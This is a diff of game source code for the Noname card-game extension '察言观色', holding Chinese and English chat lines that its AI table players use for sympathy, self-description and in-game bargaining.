+		"That fear makes sense. Keep us posted about {kin}."
+	]
+};
+const ON = {
+	asks: {
+		sleep: {
+			zh: [
+				"别数了，起来喝口温水，灯关小，手机放远点。",
+				"越逼自己越醒。听点无聊的，十分钟不看钟。",
+				"睡前别看牌别看手机，泡个脚试试。"
+			],
+			en: [
+				"Stop counting; get up, sip some water, dim the lights and try again.",
+				"Put the phone in another room and listen to something dull.",
+				"Don't watch the clock. A warm shower before bed may help."
+			]
+		},
+		study: {
+			zh: [
+				"先抓分最多的那几章，剩下的看一眼算一眼。",
+				"做一套往年的题，哪儿不会补哪儿。",
+				"今晚早睡，明早脑子清楚比多背两页强。"
+			],
+			en: [
+				"Start with the chapters that carry the most marks.",
+				"Do one old paper and patch what you missed.",
+				"Sleep tonight; a clear head beats two more pages."
+			]
+		},
+		work: {
+			zh: [
+				"先把事情写下来，该说清的当面说清。",
+				"答不上来就老实讲，再说你会怎么去弄明白。",
+				"找个信得过的同事或朋友帮你看看。"
+			],
+			en: [
+				"Write down what happened, then talk it over calmly.",
+				"If you don't know, say so, and say how you'd find out.",
+				"Ask somebody you trust at work to look at it with you."
+			]
+		},
+		love: {
+			zh: [
+				"先别发消息，睡一觉再决定说什么。",
+				"想清楚你要的是那个人，还是有人陪。",
+				"照实说，别试探。成不成都比猜着强。"
+			],
+			en: [
+				"Sleep on it before you send anything.",
+				"Say it plainly; guessing games only hurt more.",
+				"Ask yourself whether you miss them, or just the company."
+			]
+		},
+		money: {
+			zh: ["先列张单子，哪笔利息高先还哪笔。", "能谈分期就去谈，别借新的还旧的。", "先保吃住，剩下的一笔一笔来。"],
+			en: [
+				"List it all, and pay the one with the highest interest first.",
+				"Ask for a payment plan before it grows.",
+				"Keep food and a roof safe first; the rest goes step by step."
+			]
+		},
+		health: {
+			zh: [
+				"这个得听医生的，我不敢乱说。别拖就好。",
+				"我不是医生。疼得厉害就去急诊，别等。",
+				"先歇着，多喝水，不见好就去医院。"
+			],
+			en: [
+				"That's one for a doctor; I wouldn't guess. Just don't put it off.",
+				"I'm no doctor. If it gets worse, don't wait.",
+				"Rest and drink plenty; if it stays, have it seen."
+			]
+		},
+		family: {
+			zh: ["等气消了，先问一句吃饭没有，话就开了。", "别争对错，先说你也难受。", "找个两边都听的人带句话。"],
+			en: [
+				"Wait till it cools, then start with something small, like dinner.",
+				"Don't argue who was right; say that it hurts you too.",
+				"Ask somebody you both listen to for help."
+			]
+		},
+		any: {
+			zh: ["我就是个 AI，招不多。先睡一觉，再找信得过的人聊聊。", "一次只办一件，先办最压人的那件。"],
+			en: [
+				"I'm only an AI, but: sleep first, then talk to somebody you trust.",
+				"One thing at a time; start with whatever weighs most."
+			]
+		}
+	},
+	fears: {
+		study: {
+			zh: ["怕考不好才说明你上心。会的写满，就够了。", "慌的时候深呼吸，先做会的那道。"],
+			en: [
+				"Fear means you care. Write what you know; that's enough.",
+				"Breathe, and begin with the question you can do."
+			]
+		},
+		work: {
+			zh: ["慌很正常，最坏也就是再找一家。", "他们问什么都行，你只讲你做过的。"],
+			en: [
+				"Nerves are normal. The worst that can happen is another try.",
+				"Whatever comes, speak of what you've done."
+			]
+		},
+		health: {
+			zh: ["怕是正常的。听医生的，一步一步来。", "别上网查，越查越怕。问医生最准。"],
+			en: [
+				"It's fine to be scared. One step at a time, with your doctor.",
+				"Don't search it online; it only gets scarier. Ask the doctor."
+			]
+		},
+		any: {
+			zh: ["担心很正常，换我也会。", "先别想最坏的，等有信了再说。", "心里没底最难熬，我陪你坐会儿。"],
+			en: [
+				"It makes sense to worry; anyone would.",
+				"Try not to go to the worst place yet. I'm here.",
+				"Not knowing is the hardest part. Stay with us a while."
+			]
+		}
+	},
+	unfair: {
+		any: {
+			zh: ["你没做错，就别往自己身上揽。", "是不公平，换谁都憋屈。", "这口气该生，可别气坏自己。"],
+			en: [
+				"It isn't fair, and it isn't on you.",
+				"You have every right to be angry about that.",
+				"If it wasn't your fault, don't carry it as if it were."
+			]
+		}
+	},
+	span: {
+		loss: {
+			zh: ["这么些年，早就是离不开的了。", "这么久的陪伴，不是说放就放得下的。"],
+			en: ["All those years; of course it hurts.", "That's a long time to love somebody."]
+		},
+		love: {
+			zh: ["这么久的感情，哪能说放就放。", "时间不短，难受是应该的，别催自己。"],
+			en: ["That's a long time. Nobody gets over that in a day.", "So much shared; of course it hurts now."]
+		},
+		any: {
+			zh: ["这么久了，难为你一直撑着。", "日子一长更磨人，你不容易。"],
+			en: ["That's a long time to carry it.", "So long already; that would wear anybody down."]
+		}
+	},
+	recalls: {
+		loss: {
+			zh: ["这些你都记着，那份好就还在。", "有这样的日子记着，真好，也真难受。", "那这局，就当打给那边看的。"],
+			en: [
+				"You carry that with you; it doesn't go away.",
+				"What a thing to remember. No wonder you miss it.",
+				"That's a lovely thing to keep. Then let's play this one in their honour."
+			]
+		},
+		love: {
+			zh: ["想起来的都是好的，所以才难受。", "舍不得很正常，先收起来，别天天翻。"],
+			en: ["It's the good memories that hurt most.", "Missing it is normal. Put the pictures away for a while."]
+		},
+		any: {
+			zh: ["这些事记在心里，一时半会儿放不下的。", "说出来就轻一点，我听着。"],
+			en: ["Things like that stay with you. I'm listening.", "Say it; it gets a little lighter."]
+		}
+	},
+	empty: {
+		loss: {
+			zh: [
+				"家里忽然静下来，最不习惯。慢慢来。",
+				"少了那一下，家都空了一半，我懂。",
+				"这种空，谁也补不上，我陪你待会儿。"
+			],
+			en: [
+				"The quiet at home is the hardest part. Take your time.",
+				"A house feels so big after that. I am sorry.",
+				"Nobody can fill that gap. I'm here, though."
+			]
+		},
+		any: {
+			zh: ["忽然空下来，是最难熬的。", "不习惯很正常，给自己点时间。"],
+			en: ["That emptiness is hard. Give it time.", "It takes a while to get used to that."]
+		}
+	},
+	better: {
+		any: {
+			zh: ["那就好，听着松了口气。", "好转了就好，接着慢慢养。", "太好了，这桌都替你高兴。"],
+			en: ["I'm glad to hear it.", "That's a relief. Keep it up.", "Good news; the whole table is glad."]
+		}
+	},
+	thanks: {
+		any: {
+			zh: ["客气啥，想说随时说。", "谢什么，一桌人总得有个听你说话的。"],
+			en: ["Of course. Anytime you want to talk.", "No need to thank me. I'm glad you told us."]
+		}
+	},
+	leaves: {
+		any: {
+			zh: ["行，不说这个，打牌散散心。", "好，想说的时候再说，看牌。"],
+			en: ["All right, cards then. Say more whenever you like.", "Fair enough. Let's play; it helps."]
+		}
+	},
+	you: {
+		any: {
+			zh: ["我是 AI，没经历过，可听得出你难受。", "我没那样的日子，只会听。你接着说。"],
+			en: ["I'm an AI, so I never lived that, but I can listen.", "Not me; I'm an AI. I'd still like to hear it."]
+		}
+	},
+	more: {
+		loss: {
+			zh: ["嗯，我在听。想{kin}的时候就说说。", "这种空，谁也替不了你，我陪你待会儿。", "慢慢来，没人催你好起来。"],
+			en: [
+				"I'm listening. Talk about them whenever you like.",
+				"Nobody can fill that gap. I'm here, though.",
+				"Take your time; nobody expects you to be fine."
+			]
+		},
+		love: {
+			zh: [
+				"一句没感觉了，最让人没处还手。",
+				"听着都疼。这阵子对自己好一点。",
+				"那个人的话别反复想，想不出答案的。",
+				"我在听。难受就骂两句。"
+			],
+			en: [
+				"That's a hard thing to hear. I'm sorry.",
+				"It hurts just to listen. Be good to yourself for a while.",
+				"Don't turn their words over too much; there's no answer in them."
+			]
+		},
+		health: {
+			zh: ["嗯，我听着。身子的事急不得。", "真不容易，别一个人扛着。", "先顾身子，别的都好说。"],
+			en: [
+				"I'm listening. Health comes first.",
+				"That's a lot. Don't carry it all alone.",
+				"Look after that first; the rest can wait."
+			]
+		},
+		family: {
+			zh: ["家里的事最难断，我听着。", "心里有疙瘩才难受，说说也好。", "一家人的气，隔久了更难开口。"],
+			en: [
+				"Family matters cut deep. Go on.",
+				"That would weigh on me as well.",
+				"The longer the silence, the harder the first word."
+			]
+		},
+		work: {
+			zh: ["这班上得真憋屈，难为你了。", "听着都累，下了班就别想它。", "换谁都有火，在这儿说说无妨。"],
+			en: ["What a place to work. I'm sorry.", "That would wear anybody out.", "I'd be fed up too. Vent all you like."]
+		},
+		study: {
+			zh: ["读书的苦，说出来就轻一点。", "已经够努力了，别太苛待自己。"],
+			en: ["You've worked hard; give yourself some credit.", "Studying is lonely work. Hang in there."]
+		},
+		money: {
+			zh: ["钱紧的时候，样样都像在催命，我懂。", "一分一分算着过，真不容易。"],
+			en: ["Money worries get into everything. I hear you.", "Counting every coin is exhausting."]
+		},
+		sleep: {
+			zh: ["这样熬着，白天也没魂吧。", "睡不够什么都难，先顾觉。"],
+			en: ["No wonder the days feel foggy.", "Everything is harder without sleep."]
+		},
+		any: {
+			zh: ["嗯，我在听，你接着说。", "这事搁谁身上都不好受。", "不容易，你先缓一缓。", "听着呢，不急着打牌。"],
+			en: [
+				"I'm listening; go on.",
+				"That's hard, whoever it happens to.",
+				"I hear you. Take a moment.",
+				"No hurry with the cards. I'm here."
+			]
+		}
+	}
+};
+
+// src/chatter/plan/life/words/self.ts
+const SELF5 = {
+	maker: {
+		zh: ["我是无名杀里「察言观色」这个扩展的 AI，写扩展的人做的。", "做扩展「察言观色」的人写的我，没有哪家大公司。"],
+		en: [
+			"The authors of the extension 察言观色 for Noname made me.",
+			"I am part of the extension 察言观色; whoever wrote that wrote me."
+		]
+	},
+	model: {
+		zh: [
+			"我是扩展里的 AI，听话接话靠规则和小模型；名字就用武将的。",
+			"不是聊天大模型，是「察言观色」的 AI，名字就是座位上这个。"
+		],
+		en: [
+			"Not a chatbot: rules and small models of the extension 察言观色. My name is my general's.",
+			"No big model decides what I say. I am the AI of 察言观色, and go by the name at my seat."
+		]
+	},
+	cheat: {
+		zh: [
+			"不偷看。你的手牌我看不见，只看大家都看得到的。",
+			"没开挂，桌上亮出来的我才知道，和你一样。",
+			"底牌我看不着，猜人全凭谁打了谁。"
+		],
+		en: [
+			"No peeking: I only see what everybody sees.",
+			"I can't see your hand. I go by what is played on the table.",
+			"No cheating here. What you hold, I can only guess."
+		]
+	},
+	memory: {
+		zh: ["这局的事我记着，散了就忘；开了关系记录才记得交情。", "出了这局，话都不留。除非开着关系记录，那只记亲疏。"],
+		en: [
+			"I remember this game only. If relations are switched on, I keep how we get along, nothing more.",
+			"After the game the talk is gone; at most our relation is kept, if that is switched on."
+		]
+	},
+	lies: {
+		zh: ["身份局嘛，我是谁我会瞒；桌上发生过的事不编。", "会装会诈，可打过谁救过谁，我不说假话。"],
+		en: [
+			"I may bluff about my own side, never about what happened on the table.",
+			"Bluffing is part of it; I never make up what was played."
+		]
+	},
+	thinks: {
+		zh: ["看大家打出来的牌算的，话是照性子接的。", "没人教我，规则加小模型，桌上看见多少算多少。"],
+		en: [
+			"I reckon from what is played, and speak in character.",
+			"No practice, just rules and small models, and whatever I see on the table."
+		]
+	},
+	feelings: {
+		zh: ["没有真的感情，我是 AI，只会照性子说话。", "不疼也不怕，是程序。可我会好好听你说。"],
+		en: [
+			"No real feelings; I am an AI and speak in character.",
+			"It's code in here. I don't feel pain or fear, but I do listen."
+		]
+	},
+	clock: {
+		zh: ["我没有表，只知道这是第{round}轮。", "几点我看不着，你瞅眼手机；牌局到第{round}轮了。"],
+		en: [
+			"I have no clock; I only know that this is round {round}.",
+			"Can't tell the time from here. It's round {round}, that much I know."
+		]
+	},
+	person: {
+		zh: ["我是 AI，没有年纪，也不住哪儿，就在这桌上。", "不吃不睡，没有岁数，我是 AI。"],
+		en: ["I am an AI: no age, no home, just this seat.", "No body, no birthday; I am an AI."]
+	},
+	well: {
+		zh: ["我挺好，有牌打就行。你呢？", "还行，AI 不累。你怎么样？"],
+		en: ["I'm fine, thanks; an AI never tires. And you?", "Doing well, as long as there are cards. How about you?"]
+	},
+	doing: {
+		zh: ["看牌，琢磨谁是谁呢。", "盯着桌上，等我的回合。"],
+		en: ["Watching the table and guessing who is who.", "Thinking about my next turn."]
+	}
+};
+
+// src/chatter/plan/life/say.ts
+const LAST2 = -3;
+const STEP3 = 0.05;
+const LED = 0.25;
+const EMPTY2 = [];
+function onLines({ on, whose, trouble }, topic) {
+	const kind = on ?? "more";
+	if (kind === "fears" && whose !== void 0 && trouble && topic === "health") return FEARS_FOR;
+	const of = ON[kind];
+	return (topic === void 0 ? void 0 : of[topic]) ?? of.any;
+}
+const favoured = (names, { seed, me }) => names[Math.floor(draw(seed, "hero", me, ...[...names].sort()) * names.length)] ?? "";
+function heroesOf(kind, wording) {
+	const named = heroesNamed(wording.heard).map(({ zh }) => zh);
+	const [first = "", second = ""] = named;
+	if (kind === "compare") {
+		const hero = favoured([first, second], wording);
+		return { hero, other: hero === first ? second : first };
+	}
+	if (kind === "looks" && named.length > 0) return { hero: favoured(named, wording), other: "" };
+	if (kind === "favourite" || kind === "strongest" || kind === "looks")
+		return {
+			hero: favoured(
+				PICKS[kind].filter((one) => !named.includes(one)),
+				wording
+			),
+			other: ""
+		};
+	return { hero: first, other: "" };
+}
+const nameOf2 = (zh, language) => HEROES.find((one) => one.zh === zh)?.[language] ?? zh;
+function heroLines(kind, wording) {
+	const { language } = wording;
+	const { hero, other } = heroesOf(kind, wording);
+	const remark = OPINIONS[hero]?.[language === "zh" ? 0 : 1] ?? "";
+	return HERO_LINES[kind][language].map(
+		(line) => line.replace(/\{hero\}|\{a\}/g, nameOf2(hero, language)).replace(/\{b\}/g, nameOf2(other, language)).replace(/\{remark\}/g, remark)
+	);
+}
+function linesOf(plan, wording) {
+	const { life, topic } = plan;
+	const { language } = wording;
+	const [kind = "", of = ""] = life.matter.split(":");
+	if (kind === "self") return [SELF5[of][language], EMPTY2];
+	if (kind === "hero") return [heroLines(of, wording), EMPTY2];
+	if (life.matter === "joke") return [JOKES[language], NO_MORE_JOKES[language]];
+	const more = life.trouble ? ON.more.any[language] : ANYTHING[language];
+	if (life.on !== void 0) return [onLines(life, topic)[language], more];
+	if (life.trouble && life.others === true) return [OF_OTHERS2[language], more];
+	if (life.trouble) return [troubleWords(life.matter)?.said[language] ?? more, more];
+	return [CHAT[life.matter]?.[language] ?? more, more];
+}
+function leadOf({ life, move, topic }, { voice, language, seed, me, purpose, plainly }) {
+	if (!life || life.on !== void 0 || plainly || topic === "self" || move === "joke" || move === "greet") return "";
+	if (draw(seed, "life lead", me, ...purpose) >= LED) return "";
+	return (life.trouble ? SOFT_LEADS : CHAT_LEADS)[voice][language];
+}
+function lifeTexts(plan, wording) {
+	const { life } = plan;
+	if (!life) return [];
+	const { scene, language, seed, me, purpose } = wording;
+	const [own, last] = linesOf({ ...plan, life }, wording);
+	const first = Math.floor(draw(seed, "life", me, ...purpose) * own.length);
+	const lead = leadOf(plan, wording);
+	const filled = (line) => lead + withKin(line, life.whose, language).replace(/\{round\}/g, String(scene.table.round));
+	const id = (nth) => `plan/life/${life.matter}/${life.on ?? "told"}/${nth}`;
+	return [
+		...own.map((_, i) => {
+			const nth = (first + i) % own.length;
+			return { id: id(nth), text: filled(own[nth] ?? ""), fit: 1 - i * STEP3 };
+		}),
+		...last.map((line, i) => ({ id: id(own.length + i), text: filled(line), fit: LAST2 - i * STEP3 }))
+	];
+}
+
 // src/chatter/plan/words/dealing.ts
 const DEALING_WORDS = {
 	join_in: {
 		zh: ["行，{why}，{who}该打", "{why}，算我一份，就打{who}", "正有此意，{why}"],
-		en: ["agreed: {why}, so {who} it is", "count me in against {who}: {why}", "my thought too: {why}"]
+		en: ["agreed: {why}, so {whom} it is", "count me in against {whom}: {why}", "my thought exactly: {why}"]
 	},
 	join_if: {
 		zh: ["{who}我还看不准，只见{why}，再来一回我就跟", "光凭{why}还不够，{who}再露一手我就动"],
-		en: ["{why}, but of {who} I am not sure yet; once more and I join", "{why}; that alone will not do, show me more"]
+		en: [
+			"{why}, but I'm not sure about {whom} yet. Once more and I'm in",
+			"{why}, but that's not enough. Show me more and I'll move"
+		]
 	},
 	join_proof: {
 		zh: ["{who}还没单冲谁来过，先别急着动", "没见{who}针对过谁，你拿出一件来我就跟"],
-		en: ["{who} has gone for nobody so far; not yet", "I saw {who} go for nobody; show me one and I join"]
+		en: [
+			"{who} {has} gone for nobody so far, so not yet",
+			"I haven't seen {whom} go for anyone. Show me once and I'm in"
+		]
 	},
 	bound: {
 		zh: ["说好了不动{who}，话得算数", "我应过放{who}一马，这会儿翻脸不成"],
-		en: ["I gave my word to leave {who} alone", "I promised to spare {who}, and I keep it"]
+		en: ["I gave my word to leave {whom} alone, and I'm keeping it", "I promised to spare {whom}, so I can't turn now"]
 	},
 	owes: {
 		zh: ["{why}，冲{who}我下不去手", "{why}，这会儿翻脸说不过去"],
-		en: ["{why}; I cannot turn on that", "{why}, so not by my hand"]
+		en: ["{why}. I can't turn on that", "{why}, so I won't be the one to strike"]
 	},
 	help_third: {
 		zh: ["{state}，真悬了我不会干看着", "{who}我看着呢，{state}，手里有桃自然给"],
 		en: [
-			"{state}; I will not look on if it gets close",
-			"I have an eye on that: {state}; a Peach of mine would go there"
+			"{state}, and I won't just watch if it gets close",
+			"I'm keeping an eye out: {state}. If I have a Peach, that's where it goes"
 		]
 	},
 	wont_help_third: {
 		zh: ["救{who}？{why}，不救", "{why}，{who}我不管"],
-		en: ["help there? {why}; no", "{why}, so I will not help"]
+		en: ["help out there? {why}, so no", "{why}, so I'm staying out of it"]
 	},
 	may_help_third: {
 		zh: ["{who}是哪边的还没看清，{state}，先不急", "先看{who}下一手冲谁，值得救再救"],
-		en: ["I cannot tell the side of {who} yet; {state}, no hurry", "let me see the next move of {who} first"]
+		en: ["I can't tell whose side {who} {be} on yet. {state}, so no rush", "let me see {whose} next move first"]
 	},
 	spare_you: {
 		zh: ["{why}，打你做什么", "{why}，这我记着，刀不往你那边去"],
-		en: ["{why}; why would I strike you", "{why}, and I remember it; my blade goes elsewhere"]
+		en: ["{why}, so why would I hit you?", "{why}, and I remember that. My blade goes elsewhere"]
 	},
 	spare_if: {
 		zh: ["你不动{kept}，我就没道理动你", "看你下一手冲谁，不冲{kept}就好说"],
 		en: [
-			"leave {kept} alone and I have no cause to strike you",
-			"your next card decides: not at {kept}, and we are fine"
+			"leave {kept} alone and I've no reason to hit you",
+			"it depends on your next card. As long as it isn't aimed at {kept}, we're fine"
 		]
 	},
 	spare_third: {
 		zh: ["我冲谁也不冲{who}", "{who}我没打算动，放心"],
-		en: ["of all here, not {who}", "I have no mind to touch {who}; rest easy"]
+		en: ["I'll go for anyone but {whom}", "I wasn't going to touch {whom}, don't worry"]
 	},
 	spare_after: {
 		zh: ["{why}，是我手快，这事我认", "{why}，那会儿没看清，{who}我心里有数了"],
-		en: ["{why}; too quick of me, I own it", "{why}; I did not see clearly then"]
+		en: ["{why}. I was too quick there, I admit it", "{why}. I hadn't looked closely then, but now I know better"]
 	},
 	may_spare: {
 		zh: ["{who}不惹事我就不动", "看{who}下一手，安分就放着"],
-		en: ["I leave {who} be unless there is trouble", "the next move of {who} decides"]
+		en: ["I'll leave {whom} alone if there's no trouble", "it depends on {whose} next move"]
 	},
 	wont_spare: {
 		zh: ["{why}，凭这个我放不过{who}", "放{who}？{why}，不成"],
-		en: ["{why}; for that I will not let go", "let {who} go? {why}, so no"]
+		en: ["{why}, and that's something I can't let go", "let {whom} off? {why}, so no"]
 	},
 	deal_join: {
 		zh: ["成，{why}，先合打{who}，{until}你我别互伤", "{why}，{who}我来打，{until}你说的也要算数"],
 		en: [
-			"deal: {why}, so {who} first, and {until} we spare each other",
-			"{why}; I go for {who}, and {until} you keep your word"
+			"deal: {why}, so let's both go for {whom} and spare each other {until}",
+			"{why}. I'll take {whom}, and you keep your word {until}"
 		]
 	},
 	promise_doubt: {
 		zh: ["话好听，可{why}，看你做", "{why}，这回我先听着，做到再说"],
-		en: ["fair words, but {why}; show me", "{why}; I hear you, now keep it"]
+		en: ["sounds nice, but {why}. Show me", "{why}. I'll hear you out, but do it first"]
 	},
 	promise_trust: {
 		zh: ["{why}，你这话我信", "有前头那一手，{why}，信你"],
-		en: ["{why}, so I believe you", "{why}; after that your word is good"]
+		en: ["{why}, so I believe you", "{why}, and after that I trust your word"]
 	},
-	threat_met: { zh: ["{why}，该动还得动", "吓不着我，{why}"], en: ["{why}; I do what must be done", "no use: {why}"] },
+	threat_met: {
+		zh: ["{why}，该动还得动", "吓不着我，{why}"],
+		en: ["{why}, and I'll still do what I have to", "you don't scare me: {why}"]
+	},
 	threat_eased: {
 		zh: ["你不动{kept}，我动你做什么", "没打算动你，火气收一收"],
-		en: ["leave {kept} alone and I leave you alone", "I had no mind to touch you; calm down"]
+		en: ["leave {kept} alone and I'll leave you alone", "I wasn't going to touch you, so cool down"]
 	},
 	outlook: {
 		zh: ["{state}，{count}，还早", "{count}，{state}，这会儿说死太早"],
-		en: ["{state}, {count}; too early to say", "{count}, {state}; nothing is settled"]
+		en: ["{state} and {count}, so it's too early to say", "{count} and {state}. Too soon to call it"]
 	},
 	outlook_low: {
 		zh: ["是悬，{state}，{count}", "{state}，这口气看谁先松，{count}"],
-		en: ["close, yes: {state}, {count}", "{state}; it hangs by a thread, {count}"]
+		en: ["it's close, yes: {state}, and {count}", "{state}, so it's hanging by a thread, and {count}"]
 	},
 	outlook_card: {
 		zh: ["{said}这东西，翻出来才知道", "{said}的事谁也说不准，等着看"],
-		en: ["{said}? That shows when it comes", "nobody can tell about {said}; wait and see"]
+		en: ["{said}? We'll know when it comes up", "nobody can tell with {said}, let's wait and see"]
 	},
 	outlook_seat: {
 		zh: ["{state}，悬不悬看下一圈", "{state}，话别说太早"],
-		en: ["{state}; the next round will tell", "{state}, so do not count on it yet"]
+		en: ["{state}. The next round will tell", "{state}, but don't count on it yet"]
 	},
 	deny_role: {
 		zh: ["{why}，这像么", "{why}，扣这顶帽子也得挑个头"],
-		en: ["{why}; does that look like it", "{why}; that hat will not fit"]
+		en: ["{why}. Does that look like it?", "{why}, so that hat doesn't fit me"]
 	},
 	judge_me: {
 		zh: ["{why}，是什么人你自己掂量", "别听嘴，看手：{why}"],
-		en: ["{why}; judge for yourself", "never mind words: {why}"]
+		en: ["{why}. Judge for yourself", "never mind the talk, look at what I did: {why}"]
 	},
 	own_blow: {
 		zh: ["{why}，这我认，身份你接着猜", "{why}，凭这个疑我不冤，可我不报"],
-		en: ["{why}, I own it; the rest is for you to guess", "{why}; doubt me for that, but I tell nothing"]
+		en: ["{why}, I admit it. The rest is for you to guess", "{why}. Fair enough to doubt me, but I'm not telling"]
 	},
 	turn_back: {
 		zh: ["{why}，该我问你才对", "先说说你自己：{why}"],
-		en: ["{why}; it is I who should ask", "speak of yourself first: {why}"]
+		en: ["{why}, so I should be asking you", "talk about yourself first: {why}"]
 	},
 	look_there: {
 		zh: ["与其盯我，不如看{who}：{why}", "别光盯着我，{why}"],
-		en: ["look at {who} rather: {why}", "do not look at me: {why}"]
+		en: ["look at {whom} instead: {why}", "don't just look at me: {why}"]
 	},
 	pair_apart: {
 		zh: ["{why}，一伙的会这样？", "要是一伙，{why}怎么说"],
-		en: ["{why}; do partners do that", "partners? then why is it that {why}"]
+		en: ["{why}. Would partners do that?", "partners? Then how come {why}?"]
 	},
 	pair_got: {
 		zh: ["{why}，那是{who}的主意，我没开口", "{why}不假，可我没求过"],
-		en: ["{why}, but I never asked for it", "{why}; I had no say in it"]
+		en: ["{why}, but I never asked for it", "{why}, true, but it wasn't my idea"]
 	},
 	pair_gave: {
 		zh: ["{why}，一张牌的事，算不上一伙", "{why}不假，帮一回就是一伙了？"],
-		en: ["{why}; one card makes no partners", "{why}, once; is that all it takes"]
+		en: ["{why}. One card doesn't make us partners", "{why}, sure, but is once all it takes?"]
 	},
 	pair_none: {
 		zh: ["{who}没帮过我，我也没帮过{who}，哪来的一伙"],
-		en: ["{who} never helped me, nor I {who}; what partners"]
+		en: ["{who} never helped me, and I never helped {whom}. What partners?"]
 	},
 	of_pair: {
 		zh: ["没见这一手，这两边之间我只见{why}", "要说这两边，我记着的是{why}"],
-		en: ["I missed that; between the two I only saw that {why}", "of those two I recall that {why}"]
+		en: ["I missed that. Between those two I only saw that {why}", "as for those two, I remember that {why}"]
 	},
 	no_dealings: {
 		zh: ["没见{who}对{not}做过什么", "{who}还没动过{not}"],
-		en: ["I saw {who} do nothing to {not}", "{who} did nothing to {not} so far"]
+		en: ["I didn't see {whom} do anything to {not}", "{who} {has} done nothing to {not} so far"]
 	},
 	own_doing: {
 		zh: ["要说我，{why}", "我做的都在桌上：{why}"],
-		en: ["as for me, {why}", "what I did lies open: {why}"]
+		en: ["as for me, {why}", "what I did is there for all to see: {why}"]
 	}
 };
 
@@ -31592,59 +34321,92 @@ const DEALING_WORDS = {
 const GESTURE_WORDS = {
 	well_done: {
 		zh: ["{why}，这一手漂亮，该夸", "{why}，打得好，我服", "看见了，{why}，记你一功"],
-		en: ["{why}; well played, I grant you that", "I saw it: {why}. Nicely done", "{why}, and that deserves a cheer"]
+		en: [
+			"{why}. Nice move, credit where it's due",
+			"{why}. Well played, hats off",
+			"I saw it: {why}. That one's to your credit"
+		]
+	},
+	recap: {
+		zh: ["不急，现在是{who}的回合，刚才{why}", "捋一捋：轮到{who}，前一手是{why}", "慢慢来，{why}，这会儿轮到{who}"],
+		en: [
+			"no rush, it's {whose} turn, and {why}",
+			"let me sum up: {why}, and now it's {whose} turn",
+			"take your time: {why}, and {who} {be} up now"
+		]
+	},
+	recap_begun: {
+		zh: ["不急，现在是{who}的回合，{count}", "才开头，轮到{who}，{count}"],
+		en: ["no rush, it's {whose} turn, and {count}", "we've only just begun, and it's {whose} turn"]
+	},
+	recap_play: {
+		zh: ["不急，看谁碰{lord}，碰他的多半是反，先防着", "简单说：认准身份，轮到你出牌，别的边打边学"],
+		en: [
+			"no rush: watch who attacks {lord}, that's usually a rebel",
+			"in short: work out who's who, play on your turn, and learn as you go"
+		]
 	},
 	no_feat: {
 		zh: ["这一圈还没见你立功，夸奖先欠着", "等你打出一手好的，再夸不迟"],
-		en: ["nothing to cheer for yet; I owe you one", "show us something first, and I will cheer"]
+		en: ["nothing to cheer for yet, I'll owe you one", "show us a good one first, then I'll cheer"]
 	},
 	kept_card: {
 		zh: ["{why}，到手的牌哪有还的", "{why}，想要回去，凭本事来拿"],
-		en: ["{why}, and what I hold I keep", "{why}; come and win it back"]
+		en: ["{why}, and I don't give cards back", "{why}. If you want it back, come and win it"]
 	},
 	not_taken: {
 		zh: ["我手里可没拿过这张，找错人了", "牌不是我拿的，讨也讨不到我这儿"],
-		en: ["I took no such card; you ask the wrong one", "it was not me who took it"]
+		en: ["I never took that card, you're asking the wrong player", "it wasn't me who took it, so I can't give it back"]
 	},
 	thinking: {
 		zh: ["都盯着牌呢，你起个头我就接", "在呢，你说，我听着", "想牌想得出神，你接着说"],
-		en: ["we are all minding our cards; you begin", "here; go on, I am listening", "lost in my cards; do go on"]
+		en: [
+			"we're all staring at our cards. You start",
+			"I'm here. Go on, I'm listening",
+			"I was lost in my cards. Do go on"
+		]
 	},
 	hid_well: {
 		zh: ["{who}藏得深，换谁都看走眼", "翻开才知道{who}是{role}，怪不得你", "{who}是{role}，事先谁敢说死，不算你的错"],
 		en: [
-			"{who} hid it well; anybody would have been wrong",
-			"only now we know {who} was {role}; no fault of yours",
-			"{who} was {role}, and nobody could swear to it before"
+			"{who} hid it well, anyone would've been wrong",
+			"we only know now that {who} {was} {role}, so don't blame yourself",
+			"{who} {was} {role}, and nobody could've sworn to it. Not your fault"
 		]
 	},
 	unforeseen: {
 		zh: ["{who}翻开是{role}，这一出够热闹的", "是{role}没错，{who}藏得可真深", "{who}这一亮，局面可就变了"],
 		en: [
-			"{who} turned out to be {role}; what a turn",
-			"{role} it is; {who} hid it well",
-			"with {who} laid open, everything changes"
+			"{who} turned out to be {role}, what a twist",
+			"{role} after all. {who} hid it well",
+			"now that {whose} role is out, everything changes"
 		]
 	},
 	farewell: {
 		zh: ["{who}走好，{role}的牌到此为止", "{who}是{role}，这一走局面就变了", "送{who}一程，余下的人接着打"],
 		en: [
-			"farewell to {who}, {role} to the end",
-			"{who} was {role}; with that the table changes",
-			"so goes {who}; the rest of us play on"
+			"so long, {who}, {role} to the end",
+			"{who} {was} {role}, and now the whole table changes",
+			"goodbye, {who}. The rest of us play on"
 		]
 	},
 	kept_word: {
 		zh: ["从答应你那会儿起我没动过你，话还作数", "说过的话我没忘，那之后也没破"],
-		en: ["since I gave it my word stands; I have not touched you", "I have not forgotten my word, nor broken it since"]
+		en: [
+			"I haven't touched you since I gave my word, and it still stands",
+			"I haven't forgotten my word, and I haven't broken it since"
+		]
 	},
 	no_word: {
 		zh: ["这话我可没答应过你，别记串了人", "我没许过这个愿，你找许过的人去"],
-		en: ["I gave you no such word; you mistake me", "I promised nothing of the kind"]
+		en: [
+			"I never gave you that promise, you've mixed me up with someone",
+			"I promised nothing of the kind. Ask whoever did"
+		]
 	},
 	foreseen: {
 		zh: ["{who}果然是{role}，我早这么说", "{who}是{role}，和我说的对得上"],
-		en: ["{who} was {role}, as I said", "{role}, just as I told you about {who}"]
+		en: ["{who} {was} {role}, just as I said", "{role}, just as I told you about {whom}"]
 	}
 };
 
@@ -31652,79 +34414,87 @@ const GESTURE_WORDS = {
 const MOOD_WORDS = {
 	fell_short: {
 		zh: ["就差一点，下回再来", "没打着就没打着", "算你们躲得快"],
-		en: ["so close; next time, then", "it missed, so what", "quick on your feet, all of you"]
+		en: ["so close, next time then", "a miss is a miss, so what", "you lot are quick on your feet"]
 	},
 	missed_yours: {
 		zh: ["就差一点，下回就着了", "没打着不丢人", "牌没用对时候，再攒一手"],
-		en: ["close; the next one may land", "no shame in that", "bad timing; save up and try again"]
+		en: ["so close, the next one may land", "no shame in missing", "bad timing. Save up and try again"]
 	},
 	held_out: {
 		zh: ["是够硬的，看还能撑几下", "躲过一回，看下一回"],
